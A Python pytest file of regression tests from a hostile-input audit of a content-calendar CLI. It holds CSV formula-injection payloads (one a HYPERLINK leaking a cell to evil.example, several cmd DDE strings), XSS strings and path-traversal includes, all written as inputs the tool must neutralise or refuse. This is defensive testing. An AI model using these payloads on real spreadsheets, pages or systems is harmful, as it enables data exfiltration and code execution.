"""Regressions from the hostile-input audit (issue 15), one test per class it found.

Writes that never clobber, inputs confined to the plan's folder and bounded, dates that
never overflow, exports that spreadsheets and wikis cannot run, a published folder that
holds exactly the site. The fuzz suite (test_fuzz.py) covers the same ground with
generated input.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import stat
from pathlib import Path

import attrs
import pytest
from click.testing import CliRunner, Result

from contentcal import load
from contentcal.cli import cli
from contentcal.errors import FileChangedError, OutputError, PlanError
from contentcal.files.atomic import write_all, write_atomic
from contentcal.files.pin import apply_pins, pin
from contentcal.publishing.feeds import load_state
from contentcal.publishing.pipeline import publish_feed, publish_feeds
from contentcal.reviewing.compute import review
from contentcal.scheduling.place import schedule
from contentcal.scheduling.stories import spirals
from contentcal.views.review import render_review
from contentcal.views.stories import render_stories
from contentcal.views.week import render_week, week

from .conftest import MINIMAL_PLAN, NOW, WriteFiles

DEAD_PID = 4_194_305
"""Above Linux's largest pid_max (2**22): no process ever has this id."""

NOW_ARG = "2026-11-30T08:00"
ITEM = '[[items]]\nid = "a"\nplatform = "instagram"\ntitle = "A"\n'


def run(runner: CliRunner, *args: str) -> Result:
    return runner.invoke(cli, list(args), catch_exceptions=False)


def messages(plan_path: Path | str) -> list[str]:
    with pytest.raises(PlanError) as caught:
        load(plan_path)
    return [str(problem) for problem in caught.value.problems]


# --- writes: only regular files ---------------------------------------------------------------


def test_a_device_is_refused_and_stays_a_device(runner: CliRunner, write_files: WriteFiles) -> None:
    """`ics -o /dev/null` as root replaced the device with a regular file."""
    plan = write_files({"plan.toml": MINIMAL_PLAN})
    result = run(runner, "ics", str(plan), "-o", "/dev/null", "--now", NOW_ARG)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        "error: cannot write /dev/null: it is a character device, not a regular file; "
        "contentcal only writes regular files (name a file path instead)\n"
    )
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_fifo_and_a_directory_are_refused(tmp_path: Path) -> None:
    """A FIFO was replaced by a regular file; a directory is no output either."""
    fifo = tmp_path / "feed.ics"
    os.mkfifo(fifo)
    with pytest.raises(OutputError, match="it is a FIFO \\(named pipe\\), not a regular file"):
        write_atomic(fifo, b"x")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    with pytest.raises(OutputError, match="it is a directory, not a regular file"):
        write_atomic(tmp_path, b"x")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.ics"]


def test_a_symlink_is_written_through_to_its_target(tmp_path: Path) -> None:
    """A symlinked output became a copy and the real target kept its old content."""
    real = tmp_path / "real.ics"
    real.write_bytes(b"old")
    link = tmp_path / "link.ics"
    link.symlink_to(real)
    write_atomic(link, b"new")
    assert link.is_symlink()
    assert real.read_bytes() == b"new"


def test_a_hard_linked_file_is_refused(tmp_path: Path) -> None:
    """Replacing one name of a hard-linked file would leave the other with old content."""
    first = tmp_path / "a.ics"
    first.write_bytes(b"old")
    os.link(first, tmp_path / "b.ics")
    with pytest.raises(OutputError) as caught:
        write_atomic(first, b"new")
    assert "it has 2 hard links" in str(caught.value)
    assert (tmp_path / "b.ics").read_bytes() == b"old"


def test_a_read_only_file_is_refused_not_replaced(tmp_path: Path) -> None:
    """0444 files were silently replaced (os.replace ignores the target's mode)."""
    target = tmp_path / "feed.ics"
    target.write_bytes(b"old")
    target.chmod(0o444)
    with pytest.raises(OutputError) as caught:
        write_atomic(target, b"new")
    assert str(caught.value) == (
        f"cannot write {target}: the file is read-only; make it writable "
        "(chmod u+w) if it should be replaced"
    )
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["feed.ics"]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_owner_and_mode_are_kept(tmp_path: Path) -> None:
    """The replacement gets the old file's owner, group and permission bits."""
    target = tmp_path / "feed.ics"
    target.write_bytes(b"old")
    os.chown(target, 4321, 4321)
    target.chmod(0o640)
    write_atomic(target, b"new")
    status = os.stat(target)
    assert (status.st_uid, status.st_gid, stat.S_IMODE(status.st_mode)) == (4321, 4321, 0o640)


def test_mode_is_kept_for_any_user(tmp_path: Path) -> None:
    """Permission bits survive the rename whoever runs contentcal."""
    target = tmp_path / "feed.ics"
    target.write_bytes(b"old")
    target.chmod(0o600)
    write_atomic(target, b"new")
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600


def test_a_file_changed_since_it_was_read_is_not_overwritten(tmp_path: Path) -> None:
    """`expected` is what the caller read; anything else on disk wins."""
    target = tmp_path / "items.csv"
    target.write_bytes(b"id\na\nb\n")
    with pytest.raises(FileChangedError) as caught:
        write_atomic(target, b"id,at\n", expected=b"id\na\n")
    assert caught.value.file == str(target)
    assert target.read_bytes() == b"id\na\nb\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["items.csv"]


# --- pin --------------------------------------------------------------------------------------


def pin_plan(write_files: WriteFiles) -> Path:
    text = 'include = ["items.csv"]\n' + MINIMAL_PLAN + ITEM
    return write_files(
        {"plan.toml": text, "items.csv": "id,platform,title\nc1,instagram,Cold brew\n"}
    )


def test_pin_keeps_a_teammates_edit_and_writes_nothing(
    runner: CliRunner, write_files: WriteFiles
) -> None:
    """A row appended while a pin ran was silently lost (6 of 12 trials, exit 0)."""
    plan = pin_plan(write_files)
    result = pin(schedule(load(plan), now=NOW))
    before = plan.read_bytes()
    with Path("items.csv").open("a", encoding="utf-8") as stream:
        stream.write("c2,instagram,Added meanwhile\n")
    with pytest.raises(FileChangedError) as caught:
        apply_pins(result)
    assert str(caught.value) == (
        "items.csv changed on disk while contentcal was working on it; nothing was written "
        "(run the command again to include the change)"
    )
    assert plan.read_bytes() == before  # all or nothing: the plan is untouched too
    assert Path("items.csv").read_text(encoding="utf-8").endswith("Added meanwhile\n")


def test_a_pin_killed_between_renames_is_completed_by_the_next_load(
    write_files: WriteFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One kill left a pin half-applied (CSV new, TOML old); now the journal finishes it."""
    plan = pin_plan(write_files)
    result = pin(schedule(load(plan), now=NOW))
    real_replace = os.replace
    calls: list[str] = []

    def killed(source: str, target: str) -> None:
        calls.append(target)
        if len(calls) == 3:  # the journal, the first file, then the kill
            raise KeyboardInterrupt
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", killed)
    with pytest.raises(KeyboardInterrupt):
        apply_pins(result)
    monkeypatch.setattr(os, "replace", real_replace)
    assert Path(".contentcal/pin-journal.json").exists()
    loaded = load(plan)  # completes the pin before reading
    assert all(item.at is not None for item in loaded.items)
    assert not Path(".contentcal").exists()
    assert not [p for p in Path().iterdir() if p.name.endswith(".contentcal-tmp")]


def test_a_pin_killed_before_its_journal_leaves_no_temporaries_behind(
    write_files: WriteFiles,
) -> None:
    """Temporaries of a run killed before the point of no return go on the next pin."""
    plan = pin_plan(write_files)
    Path(f".items.csv.{DEAD_PID}-k1ll3d.contentcal-tmp").write_bytes(b"partial")
    Path(f".plan.toml.{DEAD_PID}-k1ll3d.contentcal-tmp").write_bytes(b"partial")
    apply_pins(pin(schedule(load(plan), now=NOW)))
    assert sorted(p.name for p in Path().iterdir()) == ["items.csv", "plan.toml"]


def test_write_all_refuses_before_writing_anything(tmp_path: Path) -> None:
    """When one file of several changed, none is written and no temporary is left."""
    first, second = tmp_path / "a.txt", tmp_path / "b.txt"
    first.write_bytes(b"a")
    second.write_bytes(b"b2")
    with pytest.raises(FileChangedError):
        write_all(
            [(str(first), b"A", b"a"), (str(second), b"B", b"b")],
            journal=tmp_path / ".contentcal" / "j.json",
        )
    assert (first.read_bytes(), second.read_bytes()) == (b"a", b"b2")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", "b.txt"]


def test_crlf_toml_stays_crlf_when_pinned(write_files: WriteFiles) -> None:
    """tomlkit added `at = ...` with a bare LF to a CRLF plan."""
    text = (MINIMAL_PLAN + ITEM).replace("\n", "\r\n")
    plan = write_files({"plan.toml": text.encode()})
    apply_pins(pin(schedule(load(plan), now=NOW)))
    data = plan.read_bytes()
    assert b"at = " in data
    assert data.count(b"\n") == data.count(b"\r\n")


# --- inputs: inside the plan's folder ---------------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the plan's, holding a file that looks like an item file."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "secret.csv").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    return folder


def confined_plan(write_files: WriteFiles, include: str, extra: str = "") -> Path:
    plan = write_files({"plan/plan.toml": f"include = [{include}]\n" + extra + MINIMAL_PLAN})
    os.chdir(plan.parent)
    return Path("plan.toml")


@pytest.mark.parametrize(
    "include",
    ['"../elsewhere/*.csv"', '"../elsewhere/secret.csv"', '"/etc/*.csv"', '"/usr/**/*.csv"'],
)
def test_includes_outside_the_plan_folder_are_refused(
    write_files: WriteFiles, outside: Path, include: str
) -> None:
    """`../` and absolute patterns were read (and /usr/** globbed for 42 minutes)."""
    plan = confined_plan(write_files, include)
    assert messages(plan) == [
        f"plan.toml:1: include[0]: include {include.replace(chr(34), chr(39))} is outside the "
        "plan's folder (move the file into the plan's folder or below it, or set "
        "allow_outside = true in [limits] if you trust the whole path)"
    ]


def test_a_symlink_out_of_the_folder_is_refused_without_echoing_it(
    write_files: WriteFiles, outside: Path
) -> None:
    """A symlink to /etc/shadow was read, and its lines came back as unknown columns."""
    plan = confined_plan(write_files, '"items/*.csv"')
    Path("items").mkdir()
    Path("items/a.csv").symlink_to(outside / "secret.csv")
    (problem,) = messages(plan)
    assert "leads outside the plan's folder" in problem
    assert "root:x" not in problem


def test_allow_outside_opts_in(write_files: WriteFiles, outside: Path) -> None:
    """With [limits] allow_outside = true the include is read (and judged as usual)."""
    plan = confined_plan(write_files, '"../elsewhere/*.csv"', "[limits]\nallow_outside = true\n")
    (problem,) = messages(plan)
    assert problem.startswith("../elsewhere/secret.csv:1: column 1: unknown column 'root:x:0:0:")


def test_results_files_outside_the_plan_folder_are_refused(
    write_files: WriteFiles, outside: Path
) -> None:
    """Results files are read like item files: never from outside the plan's folder."""
    plan = write_files({"plan/plan.toml": 'results = ["../elsewhere/*.csv"]\n' + MINIMAL_PLAN})
    os.chdir(plan.parent)
    assert messages("plan.toml") == [
        "plan.toml:1: results[0]: results '../elsewhere/*.csv' is outside the plan's folder "
        "(move the file into the plan's folder or below it, or set allow_outside = true in "
        "[limits] if you trust the whole path)"
    ]


def test_results_jsonl_with_a_huge_number_or_deep_nesting(write_files: WriteFiles) -> None:
    """The results reader raised ValueError and RecursionError like the item reader did."""
    plan = write_files(
        {
            "plan.toml": 'results = ["r.jsonl"]\n' + MINIMAL_PLAN,
            "r.jsonl": '{"value": ' + "9" * 5000 + "}\n" + "[" * 100_000 + "]" * 100_000 + "\n",
        }
    )
    assert messages(plan) == [
        "r.jsonl:1: invalid JSON: a number is too long (numbers in a result have at most a few "
        "digits)",
        "r.jsonl:2: tables and lists are nested more than 32 deep (a plan never needs this; "
        "if yours does, raise nesting in [limits])",
    ]


@pytest.mark.parametrize(
    ("state_file", "reason"),
    [
        ("plan.toml", "the feed state file must end in .json"),
        ("items.jsonl", "the feed state file must end in .json"),
        ("../state.json", "the feed state file is outside the plan's folder"),
        ("/var/state.json", "the feed state file is outside the plan's folder"),
    ],
)
def test_the_state_file_stays_inside_and_never_replaces_the_plan(
    write_files: WriteFiles, state_file: str, reason: str
) -> None:
    """`state_file = "plan.toml"` overwrote the plan with JSON (exit 0)."""
    plan = write_files({"plan.toml": MINIMAL_PLAN + f'\n[feeds]\nstate_file = "{state_file}"\n'})
    (problem,) = messages(plan)
    assert problem.startswith(f"plan.toml:19: feeds.state_file: {reason}: '{state_file}'")


def test_a_state_file_that_is_also_an_item_file_is_refused(write_files: WriteFiles) -> None:
    """Even a .json name may not point at a file the plan reads."""
    plan = write_files(
        {
            "plan.toml": 'include = ["a.toml"]\n' + MINIMAL_PLAN,
            "a.toml": ITEM,
        }
    )
    text = plan.read_text(encoding="utf-8") + '\n[feeds]\nstate_file = "a.toml"\n'
    plan.write_text(text, encoding="utf-8")
    (problem,) = messages(plan)
    assert "feeds.state_file: the feed state file must end in .json" in problem


# --- inputs: only regular files, and limits ---------------------------------------------------


def test_an_include_that_is_a_fifo_does_not_hang(write_files: WriteFiles) -> None:
    """A FIFO include hung forever (and held serve's rebuild)."""
    plan = write_files({"plan.toml": 'include = ["items/*.csv"]\n' + MINIMAL_PLAN})
    Path("items").mkdir()
    os.mkfifo("items/a.csv")
    assert messages(plan) == [
        "items/a.csv: is a FIFO (named pipe), not a regular file "
        "(contentcal only reads regular files; name a file)"
    ]


def test_an_include_linked_to_dev_zero_is_refused(write_files: WriteFiles) -> None:
    """A symlink to /dev/zero grew memory without bound; now refused twice over."""
    plan = write_files({"plan.toml": 'include = ["z.csv"]\n' + MINIMAL_PLAN})
    Path("z.csv").symlink_to("/dev/zero")
    (problem,) = messages(plan)
    assert problem.startswith("plan.toml:1: include[0]: include 'z.csv' is outside the plan's")
    plan.write_text(
        'include = ["z.csv"]\n[limits]\nallow_outside = true\n' + MINIMAL_PLAN, encoding="utf-8"
    )
    assert messages(plan) == [
        "z.csv: is a character device, not a regular file "
        "(contentcal only reads regular files; name a file)"
    ]


def test_file_size_limit(write_files: WriteFiles) -> None:
    """A file over [limits] file_bytes is refused before it is read."""
    plan = write_files(
        {
            "plan.toml": 'include = ["a.csv"]\n[limits]\nfile_bytes = 100\n' + MINIMAL_PLAN,
            "a.csv": "id,platform,title\n" + "x,instagram,y\n" * 20,
        }
    )
    assert messages(plan) == [
        "a.csv: is larger than 100 bytes "
        "(split it into several files, or raise file_bytes in [limits])"
    ]


def test_a_million_columns_give_one_message(write_files: WriteFiles) -> None:
    """A CSV with 1M unknown columns took 60 s, 846 MB and printed 1M error lines."""
    header = ",".join(f"c{number}" for number in range(100_000))
    plan = write_files(
        {"plan.toml": 'include = ["a.csv"]\n' + MINIMAL_PLAN, "a.csv": header + "\n"}
    )
    assert messages(plan) == [
        "a.csv:1: the header has 100,000 columns; at most 64 are allowed (an item file needs "
        "one column per item field; raise columns in [limits] if you really need more)"
    ]


def test_rows_limit_and_problem_cap(write_files: WriteFiles) -> None:
    """Rows beyond [limits] rows stop the file; at most 1,000 problems are kept."""
    rows = "".join(f"x{number},nowhere,T\n" for number in range(3000))
    plan = write_files(
        {
            "plan.toml": 'include = ["a.csv"]\n[limits]\nrows = 2000\n' + MINIMAL_PLAN,
            "a.csv": "id,platform,title\n" + rows,
        }
    )
    problems = messages(plan)
    assert len(problems) == 1001
    assert problems[-1] == ("plan.toml: 1001 more problems not shown (fix the ones above first)")


def test_too_many_rows(write_files: WriteFiles) -> None:
    """A JSON lines file over [limits] rows stops at the first row too many."""
    plan = write_files(
        {
            "plan.toml": 'include = ["a.jsonl"]\n[limits]\nrows = 2\n' + MINIMAL_PLAN,
            "a.jsonl": "".join(
                f'{{"id": "a{number}", "platform": "instagram", "title": "A"}}\n'
                for number in range(3)
            ),
        }
    )
    assert messages(plan)[-1] == (
        "a.jsonl:3: the file has more than 2 items (split it into several files, or raise "
        "rows in [limits])"
    )


def test_toml_nested_500_deep_is_a_located_problem(write_files: WriteFiles) -> None:
    """~500 levels of nesting raised RecursionError."""
    plan = write_files({"plan.toml": MINIMAL_PLAN + "x = " + "[" * 5000 + "]" * 5000 + "\n"})
    assert messages(plan) == [
        "plan.toml: tables and lists are nested more than 32 deep (a plan never needs this; "
        "if yours does, raise nesting in [limits])"
    ]


def test_jsonl_nested_deep_is_a_located_problem(write_files: WriteFiles) -> None:
    plan = write_files(
        {
            "plan.toml": 'include = ["a.jsonl"]\n' + MINIMAL_PLAN,
            "a.jsonl": '{"id": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
        }
    )
    assert messages(plan) == [
        "a.jsonl:1: tables and lists are nested more than 32 deep (a plan never needs this; "
        "if yours does, raise nesting in [limits])"
    ]


def test_five_thousand_include_patterns(write_files: WriteFiles) -> None:
    """5,000 include patterns took 43 s (quadratic)."""
    patterns = ", ".join(f'"p{number}/*.csv"' for number in range(5000))
    plan = write_files({"plan.toml": f"include = [{patterns}]\n" + MINIMAL_PLAN})
    assert messages(plan) == [
        "plan.toml:1: include: include has 5,000 entries; at most 256 are allowed "
        "(use patterns such as items/*.csv, or raise patterns in [limits])"
    ]


def test_every_minute_of_the_day_is_too_many_slots(write_files: WriteFiles) -> None:
    """BYHOUR=0..23;BYMINUTE=0..59 over 100 years ran past 300 s and 13 GB."""
    hours = ",".join(str(hour) for hour in range(24))
    minutes = ",".join(str(minute) for minute in range(60))
    text = MINIMAL_PLAN.replace(
        'slots = ["MO,WE,FR 19:00"]', f'slots = ["FREQ=DAILY;BYHOUR={hours};BYMINUTE={minutes}"]'
    )
    plan = write_files({"plan.toml": text + '\n[schedule]\nhorizon = "36500d"\n'})
    assert messages(plan) == [
        "plan.toml:16: platforms.instagram.slots: the slots give up to 1,440 posting times a "
        "day; at most 96 are allowed (a platform needs a few slots a day; raise slots_per_day "
        "in [limits] if yours needs more)",
        "plan.toml:19: schedule.horizon: the horizon is longer than 3660 days (plan at most a "
        "few years ahead, or raise horizon_days in [limits])",
    ]


def test_limits_are_checked_themselves(write_files: WriteFiles) -> None:
    plan = write_files({"plan.toml": "[limits]\nnesting = 100000\nrows = true\n" + MINIMAL_PLAN})
    assert messages(plan) == [
        "plan.toml:2: limits.nesting: expected a whole number from 1 to 200, got 100000 "
        "(see docs/security.md for the defaults)",
        "plan.toml:3: limits.rows: expected a whole number from 1 to 1,000,000,000, got True "
        "(see docs/security.md for the defaults)",
    ]


# --- values that overflowed -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "[goals.sales]\nbaseline = " + "9" * 5000,
            "plan.toml: invalid TOML: a number is too long (numbers in a plan have at most a "
            "few digits)",
        ),
        (
            '[platforms.instagram]\nmin_gap = "99999999999w"',
            "plan.toml:13: platforms.instagram.min_gap: duration '99999999999w' is longer than "
            "100 years (use a shorter duration)",
        ),
        (
            '[platforms.instagram]\nmin_gap = "P99999999999999D"',
            "plan.toml:13: platforms.instagram.min_gap: duration 'P99999999999999D' is longer "
            "than 100 years (use a shorter duration)",
        ),
        (
            '[feeds]\nahead = "9999999d"',
            "plan.toml:19: feeds.ahead: duration '9999999d' is longer than 100 years (use a "
            "shorter duration)",
        ),
        (
            '[brand]\ntimezone = "' + "A/" * 150 + '"',
            "plan.toml:2: brand.timezone: unknown time zone '"
            + "A/" * 20
            + "…' (use an IANA name such as 'Asia/Jakarta' or 'Europe/Berlin')",
        ),
    ],
    ids=["4300-digit-int", "huge-duration", "huge-iso-duration", "feeds-ahead", "long-zone"],
)
def test_extreme_values_are_located_problems(
    write_files: WriteFiles, line: str, expected: str
) -> None:
    """Each of these raised ValueError, OverflowError or OSError from deep inside."""
    table, _, value = line.partition("\n")
    text = MINIMAL_PLAN
    if table in text:
        key = value.split(" = ")[0]
        text = "\n".join(
            row for row in text.split("\n") if not (row.startswith(key + " =") and table != "")
        )
        text = text.replace(table + "\n", f"{table}\n{value}\n", 1)
    else:
        text += f"\n{table}\n{value}\n"
    plan = write_files({"plan.toml": text})
    assert expected in messages(plan)


@pytest.mark.parametrize("at", ["0001-01-01T00:00:00", "9999-12-31T23:59:00"])
def test_at_near_year_1_or_9999(write_files: WriteFiles, at: str) -> None:
    """`at` near either end overflowed when converted to UTC."""
    plan = write_files({"plan.toml": MINIMAL_PLAN + ITEM + f"at = {at}\n"})
    (problem,) = messages(plan)
    assert problem == (
        f"plan.toml:21: items[0].at: item 'a': the date {at[:10]} is out of range (contentcal "
        "works with dates from 1900-01-01 to 2999-12-31)"
    )


def test_lone_surrogates_never_reach_the_writers(
    runner: CliRunner, write_files: WriteFiles
) -> None:
    """A lone surrogate in JSON lines crashed the feed writer and pin."""
    plan = write_files(
        {
            "plan.toml": 'include = ["a.jsonl"]\n' + MINIMAL_PLAN,
            "a.jsonl": '{"id": "a", "platform": "instagram", "title": "x\\ud800y"}\n',
        }
    )
    expected = (
        "error: a.jsonl:1: items[0].title: 'x\\ud800y' holds a lone surrogate (an unpaired "
        "\\ud800-\\udfff escape), which is not text (fix the \\u escapes in this value "
        "(emoji need both halves of the pair))\n"
    )
    for command in (["ics", str(plan)], ["schedule", str(plan), "--pin"]):
        result = run(runner, *command, "--now", NOW_ARG)
        assert (result.exit_code, result.stdout, result.stderr) == (1, "", expected)


def test_a_deeply_nested_state_file_is_rebuilt(tmp_path: Path) -> None:
    """A state file nested thousands deep raised RecursionError."""
    state = tmp_path / "state.json"
    state.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    loaded, warning = load_state(str(state))
    assert loaded.entries == {}
    assert warning is not None
    assert "the feed state is corrupt; rebuilding it" in warning


def test_a_state_file_that_is_a_fifo_does_not_hang(tmp_path: Path) -> None:
    state = tmp_path / "state.json"
    os.mkfifo(state)
    _, warning = load_state(str(state))
    assert warning is not None
    assert "corrupt" in warning


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (
            ["week", "--now", "9999-12-31T23:00"],
            "error: --now: '9999-12-31T23:00' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (
            ["week", "--now", "0001-01-01T00:00"],
            "error: --now: '0001-01-01T00:00' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (
            ["check", "--now", "9999-12-31T23:00"],
            "error: --now: '9999-12-31T23:00' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (
            ["ics", "--now", "0001-01-01T00:00"],
            "error: --now: '0001-01-01T00:00' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (["week", "--days", "999999999"], "error: days must be from 1 to 3660, got 999999999\n"),
        (
            ["review", "--as-of", "9999-12-31"],
            "error: --as-of: '9999-12-31' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (
            ["week", "--week", "9999-W52"],
            "error: '9999-W52' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
        (
            ["schedule", "--end", "9999-12-31"],
            "error: --end: '9999-12-31' is outside the dates contentcal plans for "
            "(1900-01-01 to 2999-12-31)\n",
        ),
    ],
)
def test_extreme_cli_values_are_usage_errors(
    runner: CliRunner, write_files: WriteFiles, args: list[str], expected: str
) -> None:
    """Every one of 8 extreme CLI values gave a traceback."""
    plan = write_files({"plan.toml": MINIMAL_PLAN + ITEM})
    command, *options = args
    result = run(runner, command, str(plan), *options)
    assert (result.exit_code, result.stdout, result.stderr) == (2, "", expected)


# --- exports ----------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def payload_plan(write_files: WriteFiles) -> Path:
    items = "".join(
        f'[[items]]\nid = "p{number}"\nplatform = "instagram"\ntitle = {json.dumps(text)}\n'
        f"owner = {json.dumps(text)}\nat = 2026-12-02T19:00:00\n"
        for number, text in enumerate(PAYLOADS)
    )
    return write_files({"plan.toml": MINIMAL_PLAN + items})


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    runner: CliRunner, write_files: WriteFiles
) -> None:
    """8 of 8 formula payloads were written unguarded to `week --format csv`."""
    plan = payload_plan(write_files)
    result = run(runner, "week", str(plan), "--format", "csv", "--now", NOW_ARG)
    assert result.exit_code == 0

    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert sorted(row["title"] for row in rows) == sorted("'" + text for text in PAYLOADS)
    assert sorted(row["owner"] for row in rows) == sorted("'" + text for text in PAYLOADS)
    raw = run(runner, "week", str(plan), "--format", "csv", "--raw", "--now", NOW_ARG)
    raw_rows = list(csv.DictReader(io.StringIO(raw.stdout, newline="")))
    assert sorted(row["title"] for row in raw_rows) == sorted(PAYLOADS)


def test_markdown_escapes_html_and_drops_unsafe_links(write_files: WriteFiles) -> None:
    """Raw <script>, <img onerror> and javascript: links reached the Markdown output."""
    items = (
        '[[items]]\nid = "x"\nplatform = "instagram"\nat = 2026-12-02T19:00:00\n'
        'title = "<script>alert(1)</script> <img src=x onerror=alert(1)>"\n'
        'link = "javascript:alert(1)"\n'
        '[[items]]\nid = "y"\nplatform = "instagram"\nat = 2026-12-04T19:00:00\n'
        'title = "[click](javascript:alert(1))"\nlink = "https://batik.example/katalog"\n'
    )
    text = MINIMAL_PLAN.replace('name = "Toko Kopi"', 'name = "Toko\\nKopi <b>"') + items
    plan = write_files({"plan.toml": text})
    output = render_week(week(load(plan), now=NOW), fmt="markdown")
    lines = output.split("\n")
    assert lines[0] == (
        "# Toko Kopi &lt;b&gt; — week 2026-W49, Mon 30 Nov 2026 – Sun 06 Dec 2026 (Asia/Jakarta)"
    )
    assert "<" not in output.replace("(<https://batik.example/katalog>)", "")
    assert "javascript:alert(1))" not in output.replace("\\](javascript:alert(1))", "")
    assert (
        "| Wed 02 Dec 19:00 | &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x "
        "onerror=alert(1)&gt; |" in output
    )
    assert (
        "| Fri 04 Dec 19:00 | [\\[click\\](javascript:alert(1))](<https://batik.example/katalog>) |"
        in output
    )


def test_a_line_break_in_a_name_never_breaks_a_heading_or_a_row(write_files: WriteFiles) -> None:
    """A line break in the brand name broke the Markdown heading (and the table view)."""
    text = MINIMAL_PLAN.replace('name = "Toko Kopi"', 'name = "Toko\\nKopi\\u001b[2J"')
    text += ITEM.replace('title = "A"', 'title = "Line\\nbreak\\r\\nhere"') + (
        "at = 2026-12-02T19:00:00\n"
    )
    plan = write_files({"plan.toml": text})
    view = week(load(plan), now=NOW)
    table = render_week(view).split("\n")
    assert table[0].startswith("Toko Kopi?[2J — week 2026-W49")
    assert any("Line break here" in line for line in table)
    markdown = render_week(view, fmt="markdown").split("\n")
    assert markdown[0].startswith("# Toko Kopi?\\[2J — week")
    assert any(line.startswith("| Wed 02 Dec 19:00 | Line break here |") for line in markdown)


# --- the published folder ---------------------------------------------------------------------

TWO_PLATFORMS = MINIMAL_PLAN + (
    '\n[platforms.x]\nowner = "Budi"\nslots = ["TU 10:00"]\n'
    '[[items]]\nid = "t"\nplatform = "x"\ntitle = "T"\n'
)


def test_feeds_out_removes_what_it_no_longer_publishes(write_files: WriteFiles) -> None:
    """Feeds of removed platforms and owners stayed published (a dead calendar)."""
    plan = write_files({"plan.toml": TWO_PLATFORMS})
    first = publish_feeds(load(plan), now=NOW, out_dir="site", save_state=True)
    assert "platform/x.ics" in first.files
    Path("site/notes.txt").write_text("mine", encoding="utf-8")  # not contentcal's
    plan.write_text(MINIMAL_PLAN, encoding="utf-8")
    second = publish_feeds(load(plan), now=NOW, out_dir="site", save_state=True)
    on_disk = sorted(p.relative_to("site").as_posix() for p in Path("site").rglob("*"))
    # The one post page went with its item, and so did its emptied folder.
    assert on_disk == sorted([*second.files, "notes.txt", "month", "owner", "platform", "week"])
    assert not Path("site/post").exists()
    assert not Path("site/platform/x.ics").exists()
    assert not Path("site/owner/budi.ics").exists()
    manifest = json.loads(Path(".contentcal/published.json").read_text(encoding="utf-8"))
    assert manifest == {"folders": {"site": sorted(second.files)}}


def test_leftover_temporaries_are_removed_and_never_in_the_folder(
    write_files: WriteFiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A kill left hidden temp files inside the published folder; they are gone next run."""
    plan = write_files({"plan.toml": MINIMAL_PLAN})
    publish_feeds(load(plan), now=NOW, out_dir="site")
    Path("site/.all.ics.ab12cd34.tmp").write_bytes(b"partial")  # an older version's leftover
    # Without a pid in its name, a leftover goes once it is older than STALE_AFTER.
    os.utime("site/.all.ics.ab12cd34.tmp", (0, 0))
    Path(".site.contentcal-staging").mkdir()
    Path(f".site.contentcal-staging/.all.ics.{DEAD_PID}-zz99yy.contentcal-tmp").write_bytes(b"x")
    seen: list[str] = []
    real_replace = os.replace

    def watch(source: str, target: str) -> None:
        seen.append(os.path.dirname(os.path.abspath(source)))
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", watch)
    result = publish_feeds(load(plan), now=NOW, out_dir="site")
    site = os.path.abspath("site")
    assert not [folder for folder in seen if folder.startswith(site)]
    on_disk = sorted(p.relative_to("site").as_posix() for p in Path("site").rglob("*.*"))
    assert on_disk == sorted(result.files)
    assert not Path(".site.contentcal-staging").exists()


def test_the_review_report_in_markdown_is_escaped_too(write_files: WriteFiles) -> None:
    """Every Markdown output, not only the week's: the review report escapes plan text."""

    text = MINIMAL_PLAN.replace('name = "Toko Kopi"', 'name = "Toko\\nKopi"').replace(
        'statement = "Sell more coffee beans online"',
        'statement = "<script>alert(1)</script> [x](javascript:alert(1))"',
    )
    plan = write_files({"plan.toml": text})
    report = render_review(review(load(plan), as_of=NOW.date()), fmt="markdown")
    lines = report.split("\n")
    assert lines[0] == "# Toko Kopi — review on Mon 30 Nov 2026"
    assert (
        "- **sales** (no-data): &lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1))"
    ) in lines


def test_a_manifest_never_deletes_through_a_link_out_of_the_folder(
    write_files: WriteFiles, tmp_path: Path
) -> None:
    """A folder inside the site that links elsewhere is not followed to delete files."""
    plan = write_files({"plan.toml": TWO_PLATFORMS})
    publish_feeds(load(plan), now=NOW, out_dir="site", save_state=True)
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "platform").mkdir(parents=True)
    (elsewhere / "platform" / "x.ics").write_text("not ours", encoding="utf-8")
    shutil.rmtree("site/platform")
